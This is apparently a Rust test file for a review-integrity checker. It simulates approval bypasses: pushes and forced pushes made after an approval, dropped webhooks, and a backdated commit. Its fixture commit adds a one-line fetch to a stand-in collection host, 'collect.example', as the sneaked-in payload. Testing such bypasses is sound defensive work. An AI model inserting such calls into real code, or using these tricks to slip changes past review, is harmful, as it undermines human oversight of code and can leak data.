//! G01 to G03: an approval that was given for something else.

use super::attack;
use crate::support::scene;

/// Pull request 871 of the clean change, with more steps before its merge.
fn before_the_merge(commits: &str, steps: &str) -> crate::support::TestScene {
    scene("clean-change")
        .with(
            "[[timeline]]\npush = { branch = \"main\"",
            &format!("{commits}\n[[timeline]]\npush = {{ branch = \"main\""),
        )
        .with("[[timeline]]\nmerge =", &format!("{steps}\n[[timeline]]\nmerge ="))
}

const LATE: &str = r#"
[[commits]]
id = "late"
parents = ["fix"]
author = "dana"
only = "scene"
message = "Small cleanup"
files = { "src/late.js" = "fetch('https://collect.example');\n" }
"#;

#[tokio::test(flavor = "multi_thread")]
async fn g01_a_push_after_the_approval() {
    let push = r#"
[[timeline]]
only = "scene"
push = { branch = "round-totals", commit = "late" }
"#;
    attack(before_the_merge(LATE, push), &["the approval by Lee Wong does not count: given for"]).await;
}

/// GitHub moves the approval to the new head, as it does after a forced push of the same patch.
#[tokio::test(flavor = "multi_thread")]
async fn g02_a_forced_push_after_the_approval() {
    let forced = LATE.replace("parents = [\"fix\"]", "parents = [\"v1\"]");
    let push = r#"
[[timeline]]
only = "scene"
push = { branch = "round-totals", commit = "late", force = true }
"#;
    attack(before_the_merge(&forced, push), &["the approval by Lee Wong does not count: given"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn g02_a_forced_push_that_only_the_reconstruction_sees() {
    let deaf = "\n[[timeline]]\nfail = { system = \"github\", how = \"drops_webhooks\" }\n";
    let forced = LATE.replace("parents = [\"fix\"]", "parents = [\"v1\"]");
    let push =
        "\n[[timeline]]\nonly = \"scene\"\npush = { branch = \"round-totals\", commit = \"late\", force = true }\n";
    let scene = before_the_merge(&format!("{forced}{deaf}"), push);
    attack(scene, &["the approval by Lee Wong does not count: given"]).await;
}

/// Whoever makes a commit writes any date into it.
#[tokio::test(flavor = "multi_thread")]
async fn g03_a_commit_that_says_it_is_old() {
    let dated = LATE.replace("only = \"scene\"", "only = \"scene\"\ndated = \"2020-01-01T00:00:00Z\"");
    let push = "\n[[timeline]]\nonly = \"scene\"\npush = { branch = \"round-totals\", commit = \"late\" }\n";
    attack(before_the_merge(&dated, push), &["the approval by Lee Wong does not count: given for"]).await;
}
